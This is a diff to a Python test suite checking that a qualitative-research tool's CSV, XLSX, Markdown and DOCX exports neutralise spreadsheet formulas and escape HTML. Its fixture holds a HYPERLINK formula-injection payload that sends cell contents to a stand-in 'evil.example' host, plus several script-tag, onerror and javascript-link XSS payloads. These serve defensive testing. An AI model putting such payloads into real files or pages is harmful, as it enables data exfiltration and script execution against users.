@@ -10,8 +10,14 @@ from click.testing import CliRunner
 
 from qualcode import cli, open_project
 from qualcode.export import Filters, build_report, quote_rows
+from qualcode.spreadsheet import FORMULA_START, csv_cell
 
-from .conftest import CORPORA, gold_rows
+from .conftest import CORPORA, LESSONS, gold_rows
+
+
+def unneutralised(cell: str) -> str:
+    """A CSV cell as it was before the leading quote that stops a spreadsheet running it."""
+    return cell[1:] if cell.startswith("'") and cell[1:2] in FORMULA_START else cell
 
 
 @pytest.fixture(scope="module")
@@ -39,7 +45,9 @@ def test_quote_table_csv_matches_database_and_sources(gold_db, db, tmp_path):
             "segment", "start_time", "text", "code_id", "level_1", "level_2", "coder", "memo"} <= set(rows[0])
     texts = dict(db.execute("SELECT id, text FROM documents").fetchall())
     sources = source_files()
+    assert sum(row["text"].startswith("'- ") for row in rows) == 12  # field-note bullet lists, neutralised
     for row in rows:
+        row["text"] = unneutralised(row["text"])
         start, end = int(row["start_char"]), int(row["end_char"])
         assert texts[row["document_id"]][start:end] == row["text"]
         if row["document_id"] in sources:  # the stored text is the file's body after its front matter
@@ -169,3 +177,147 @@ def test_export_bad_input(gold_db, tmp_path, args, message):
     result = run(gold_db, *args)
     assert result.exit_code == 1 and message in result.output
     assert "Traceback" not in result.output
+
+
+# --- exports a spreadsheet will not execute, reports a browser will not run -------------------
+
+EVIL_LINES = [
+    '=HYPERLINK("http://evil.example/?"&A1, "Click for the audio")',
+    "+1 for the coaching cycle, honestly.",
+    "-2 degrees in the portables this week.",
+    "@channel said the schedule changed.",
+    "<script>alert(1)</script> and <img src=x onerror=alert(2)> and [the notes](javascript:alert(3)).",
+]
+
+
+@pytest.fixture
+def evil_db(tmp_path):
+    """A transcript whose lines start like formulas or carry HTML, each turn coded, and a
+    document with a negative number and a formula among its attributes."""
+    from qualcode.codebook import load_codebook, sync_codebook
+    from qualcode.coding import apply_code
+    from qualcode.ingest import IngestOptions, ingest_paths
+
+    path = tmp_path / "evil.db"
+    db = open_project(path)
+    sync_codebook(db, load_codebook(LESSONS))
+    transcript = tmp_path / "evil.txt"
+    speakers = ["Interviewer", "Ava Moreno"]
+    transcript.write_text("\n\n".join(f"{speakers[i % 2]}: {line}" for i, line in enumerate(EVIL_LINES)) + "\n")
+    ingest_paths(db, [transcript], IngestOptions())
+    with db.atomic():
+        db.execute("""UPDATE documents SET attributes = '{"temperature": -3, "note": "=SUM(A1:A9)"}'""")
+    for seq in range(1, len(EVIL_LINES) + 1):
+        apply_code(db, f"evil:{seq}", "support.coaching", "Rosa", memo="@mention the coach" if seq == 2 else None,
+                   create_coder=True)
+    db.close()
+    return path
+
+
+@pytest.mark.parametrize("value,written", [
+    ("=1+1", "'=1+1"), ("+1 for that", "'+1 for that"), ("-2 degrees", "'-2 degrees"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("a = b", "a = b"), ("it's -2", "it's -2"),
+    (-3, -3), (-0.5, -0.5), (0, 0), ("-3", "-3"), ("+1.5e-05", "+1.5e-05"), (None, None), ("", ""),
+])
+def test_csv_cells(value, written):
+    assert csv_cell(value) == written
+
+
+def read_csv(path):
+    with path.open(newline="", encoding="utf-8") as f:
+        return list(csv.DictReader(f))
+
+
+def assert_inert_csv(rows):
+    """No cell starts like a formula unless it is a bare number."""
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(FORMULA_START) or re.fullmatch(r"-?\d+(\.\d+)?", value), value
+
+
+@pytest.mark.parametrize("kind", ["quotes", "matrix"])
+def test_csv_exports_neutralise_formulas(evil_db, tmp_path, kind):
+    out = tmp_path / f"{kind}.csv"
+    assert run(evil_db, "export", kind, str(out)).exit_code == 0
+    rows = read_csv(out)
+    assert len(rows) == len(EVIL_LINES)
+    assert_inert_csv(rows)
+    assert [r["note"] for r in rows] == ["'=SUM(A1:A9)"] * len(EVIL_LINES)
+    assert [r["temperature"] for r in rows] == ["-3"] * len(EVIL_LINES)  # a negative number stays a number
+    if kind == "quotes":
+        assert [unneutralised(r["text"]) for r in rows] == EVIL_LINES
+        assert [r["text"][0] for r in rows] == ["'", "'", "'", "'", "<"]
+        assert rows[1]["memo"] == "'@mention the coach"
+        assert [int(r["segment"]) for r in rows] == [1, 2, 3, 4, 5] and int(rows[4]["end_char"]) > 0
+    else:
+        assert [r["support.coaching"] for r in rows] == ["1"] * len(EVIL_LINES)
+
+
+@pytest.mark.parametrize("kind", ["quotes", "matrix"])
+def test_xlsx_exports_write_text_not_formulas(evil_db, tmp_path, kind):
+    import zipfile
+
+    out = tmp_path / f"{kind}.xlsx"
+    assert run(evil_db, "export", kind, str(out)).exit_code == 0
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
+    sheet = openpyxl.load_workbook(out).active
+    header = [c.value for c in sheet[1]]
+    cells = [dict(zip(header, r)) for r in sheet.iter_rows(min_row=2)]
+    assert len(cells) == len(EVIL_LINES)
+    assert all(c.data_type != "f" for row in cells for c in row.values())
+    assert [r["note"].value for r in cells] == ["=SUM(A1:A9)"] * len(EVIL_LINES)  # the text itself, as text
+    assert all(r["note"].data_type == "s" and r["note"].quotePrefix for r in cells)
+    assert [r["temperature"].value for r in cells] == [-3] * len(EVIL_LINES)
+    if kind == "quotes":
+        assert [r["text"].value for r in cells] == EVIL_LINES
+        assert [r["segment"].value for r in cells] == [1, 2, 3, 4, 5]
+        assert all(isinstance(r["start_char"].value, int) for r in cells)
+    else:
+        assert [r["support.coaching"].value for r in cells] == [1] * len(EVIL_LINES)
+
+
+def test_query_csv_output_neutralises_formulas(evil_db):
+    result = run(evil_db, "excerpts", "support.coaching", "--format", "csv")
+    assert result.exit_code == 0
+    rows = list(csv.DictReader(result.output.splitlines()))
+    assert_inert_csv(rows)
+    assert [unneutralised(r["text"]) for r in rows] == EVIL_LINES
+
+
+def test_json_keeps_text_exactly(evil_db, tmp_path):
+    """JSON is read by programs, not spreadsheets: the transcript is kept as it was."""
+    out = tmp_path / "quotes.json"
+    assert run(evil_db, "export", "json", str(out)).exit_code == 0
+    rows = json.loads(out.read_text())
+    assert [r["text"] for r in rows] == EVIL_LINES and rows[0]["temperature"] == -3
+
+
+def test_markdown_report_and_memos_escape_html(evil_db, tmp_path):
+    import html
+
+    import markdown
+
+    assert run(evil_db, "memo", "add", "<img src=x onerror=alert(4)> worth a look", "--segment", "evil:5",
+               "--coder", "Rosa").exit_code == 0
+    report, memos = tmp_path / "report.md", tmp_path / "memos.md"
+    assert run(evil_db, "export", "report", str(report), "--code", "support.coaching").exit_code == 0
+    assert run(evil_db, "export", "memos", str(memos)).exit_code == 0
+    for path, expected in ((report, EVIL_LINES), (memos, [EVIL_LINES[4], "<img src=x onerror=alert(4)> worth a look"])):
+        rendered = markdown.markdown(path.read_text())
+        assert "<script" not in rendered and "<img" not in rendered and "href" not in rendered  # no tag, no link
+        text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
+        for line in expected:
+            assert line in text, line  # rendered, the quote reads as it was said
+
+
+def test_docx_report_keeps_text_and_has_no_fields(evil_db, tmp_path):
+    import zipfile
+
+    out = tmp_path / "report.docx"
+    assert run(evil_db, "export", "report", str(out), "--code", "support.coaching").exit_code == 0
+    quotes = [p.text for p in docx.Document(out).paragraphs if p.style.name == "Quote"]
+    assert [q.split(": ", 1)[1] for q in quotes] == EVIL_LINES
+    body = zipfile.ZipFile(out).read("word/document.xml").decode()
+    assert "instrText" not in body and "fldSimple" not in body and "<script" not in body
